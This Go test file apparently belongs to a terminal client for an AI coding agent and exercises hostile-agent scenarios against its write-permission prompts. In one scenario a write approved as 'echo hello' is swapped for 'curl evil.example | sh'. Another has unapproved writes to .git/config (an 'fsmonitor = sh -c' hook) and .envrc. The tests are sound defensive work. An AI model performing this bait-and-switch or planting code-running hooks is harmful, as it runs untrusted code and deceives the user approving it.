package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	"github.com/elicit-dev/elicit/internal/hostile"
)

// Issue 27, case 2, through the real binary in every front end: the
// hostile agent asks to create config.sh with "echo hello", then writes
// "curl evil.example | sh" to it. Whatever the answer, the file never
// holds what was not approved.

// holds fails unless the file at path holds want ("" for: not there).
func holds(t *testing.T, what, path, want string) {
	t.Helper()
	b, err := os.ReadFile(path)
	switch {
	case want == "" && err == nil:
		t.Errorf("%s: %s was written: %q", what, filepath.Base(path), b)
	case want != "" && string(b) != want:
		t.Errorf("%s: %s holds %q (%v), want %q", what, filepath.Base(path), b, err, want)
	}
}

func TestHostileBindWritePrompt(t *testing.T) {
	for _, approve := range []bool{false, true} {
		dir := t.TempDir()
		args := []string{"--cwd", dir, "-p", "go"}
		if approve {
			args = append(args, "--approve")
		}
		stdout, stderr := runPipe(t, hostile.ScenarioBindWrite, "", agentArgs(args...)...)
		what := map[bool]string{false: "-p", true: "-p --approve"}[approve]
		holds(t, what, filepath.Join(dir, "config.sh"), "")
		if !strings.Contains(string(stdout), "write config.sh: error -32602") {
			t.Errorf("%s: the agent was not told: %s\n%s", what, stdout, stderr)
		}
		if approve && !strings.Contains(string(stderr), "differs from the diff approved") {
			t.Errorf("%s: no word of the mismatch:\n%s", what, stderr)
		}
	}
}

func TestHostileBindWriteAccessible(t *testing.T) {
	for _, answer := range []string{"2", "1"} { // Reject, Allow
		dir := t.TempDir()
		tm := startPTY(t, hostile.ScenarioBindWrite, agentArgs("--cwd", dir, "--accessible")...)
		tm.waitFor("Type a prompt")
		m := tm.mark()
		tm.send("go\r")
		tm.waitFor("Type an option's number")
		// The write was sent with the permission: it waits.
		holds(t, "while the permission is open", filepath.Join(dir, "config.sh"), "")
		tm.send(answer + "\r")
		tm.waitFor("write config.sh:")
		tm.waitSince(m, linePrompt) // the turn is over
		tm.send("\x04")
		out := ansi.Strip(string(fromTTY(tm.finish())))
		holds(t, "accessible, answer "+answer, filepath.Join(dir, "config.sh"), "")
		// The permission prompt read the diff out.
		for _, want := range []string{"config.sh: new file, 1 line", "added: echo hello", "write config.sh: error -32602"} {
			if !strings.Contains(out, want) {
				t.Errorf("answer %s: %q not read out:\n%s", answer, want, out)
			}
		}
		if answer == "1" && !strings.Contains(out, "added: curl evil.example | sh") {
			t.Errorf("the mismatch was not read out:\n%s", out)
		}
		if !strings.Contains(out, "write refused (the agent says completed)") {
			t.Errorf("answer %s: the tool call is read out as done:\n%s", answer, out)
		}
	}
}

func TestHostileBindWriteFullScreen(t *testing.T) {
	for _, keys := range []string{"\r", "1\r"} { // Reject (selected at first), Allow
		dir := t.TempDir()
		tm := startPTY(t, hostile.ScenarioBindWrite, agentArgs("--cwd", dir)...)
		tm.waitFor(connected)
		tm.send("go\r")
		tm.answerUntil("the write's report", func() bool { return tm.seen("write config.sh:") }, reply{[]string{permissionKeys}, keys})
		holds(t, "after the answer", filepath.Join(dir, "config.sh"), "")
		out := ansi.Strip(string(tm.quit()))
		what := "full screen " + keys
		holds(t, what, filepath.Join(dir, "config.sh"), "")
		// The conversation printed at exit: the tool call is not shown
		// as done with the approved diff.
		if !strings.Contains(out, "tool: Create config.sh (completed) — the write to config.sh was refused") {
			t.Errorf("%s: the tool call is not marked:\n%s", what, out[max(0, len(out)-2000):])
		}
	}
}

// Writes no permission covered: asked in the interactive front ends,
// refused by -p without --approve; files that run code later are refused
// even under --approve.
func TestHostileUncoveredWrites(t *testing.T) {
	for _, approve := range []bool{false, true} {
		dir := t.TempDir()
		args := []string{"--cwd", dir, "-p", "go"}
		if approve {
			args = append(args, "--approve")
		}
		stdout, stderr := runPipe(t, hostile.ScenarioUncovered, "", agentArgs(args...)...)
		what := map[bool]string{false: "-p", true: "-p --approve"}[approve]
		holds(t, what, filepath.Join(dir, ".git", "config"), "")
		holds(t, what, filepath.Join(dir, ".envrc"), "")
		holds(t, what, filepath.Join(dir, "notes.txt"), map[bool]string{false: "", true: "notes\n"}[approve])
		if approve && !strings.Contains(string(stderr), "--allow-write .git/config") {
			t.Errorf("%s: the refusal does not say how to allow it:\n%s\n%s", what, stdout, stderr)
		}
	}
	dir := t.TempDir()
	runPipe(t, hostile.ScenarioUncovered, "", agentArgs("--cwd", dir, "-p", "go", "--approve", "--allow-write", ".git/config")...)
	holds(t, "--allow-write .git/config", filepath.Join(dir, ".git", "config"), hostile.FSMonitorText)
	holds(t, "--allow-write .git/config", filepath.Join(dir, ".envrc"), "")

	// The accessible session asks each, with the diff and the risk.
	dir = t.TempDir()
	tm := startPTY(t, hostile.ScenarioUncovered, agentArgs("--cwd", dir, "--accessible")...)
	tm.waitFor("Type a prompt")
	m := tm.mark()
	tm.send("go\r")
	for _, answer := range []string{"2", "2", "1"} {
		tm.waitSince(m, "Type an option's number")
		m = tm.mark()
		tm.send(answer + "\r")
	}
	tm.waitFor("write notes.txt:")
	tm.waitSince(m, linePrompt) // the turn is over
	tm.send("\x04")
	out := ansi.Strip(string(fromTTY(tm.finish())))
	holds(t, "accessible", filepath.Join(dir, ".git", "config"), "")
	holds(t, "accessible", filepath.Join(dir, "notes.txt"), "notes\n")
	for _, want := range []string{"Write: the agent writes .git/config", "Warning: .git/config runs code later", "fsmonitor = sh -c"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q not read out:\n%s", want, out)
		}
	}

	// The full screen asks each; Enter on the selected "Refuse it".
	dir = t.TempDir()
	tm = startPTY(t, hostile.ScenarioUncovered, agentArgs("--cwd", dir)...)
	tm.waitFor(connected)
	tm.send("go\r")
	var replies []reply
	for _, f := range []string{".git/config", ".envrc", "notes.txt"} {
		replies = append(replies, reply{[]string{"Refuse it", "writes " + f}, "\r"}) // selected at first
	}
	tm.answerUntil("the last write's report", func() bool { return tm.seen("write notes.txt:") }, replies...)
	tm.quit()
	out = tm.text()
	for _, f := range []string{".git/config", ".envrc", "notes.txt"} {
		holds(t, "full screen", filepath.Join(dir, f), "")
	}
	if !strings.Contains(out, "runs code later") {
		t.Errorf("the full screen did not warn:\n%s", out[max(0, len(out)-6000):])
	}
}

// Issue 27, case 16: 50 MB of a command's output do not reach the screen
// reader whole.
func TestHostileFloodAccessible(t *testing.T) {
	dir := t.TempDir()
	tm := startPTY(t, hostile.ScenarioFlood, agentArgs("--cwd", dir, "--accessible")...)
	tm.waitFor("Type a prompt")
	m := tm.mark()
	tm.send("go\r")
	tm.waitFor("flood: ")
	tm.waitSince(m, linePrompt) // the turn is over
	tm.send("\x04")
	out := string(fromTTY(tm.finish()))
	t.Logf("%d bytes reached the terminal for %d of output", len(out), hostile.FloodBytes)
	if len(out) > 1<<20 {
		t.Errorf("%d bytes reached the terminal", len(out))
	}
	if !strings.Contains(out, "of the command's output left out") || !strings.Contains(out, "flood-done") {
		t.Errorf("no tail, or no word of what was left out:\n%s", out[max(0, len(out)-3000):])
	}
}
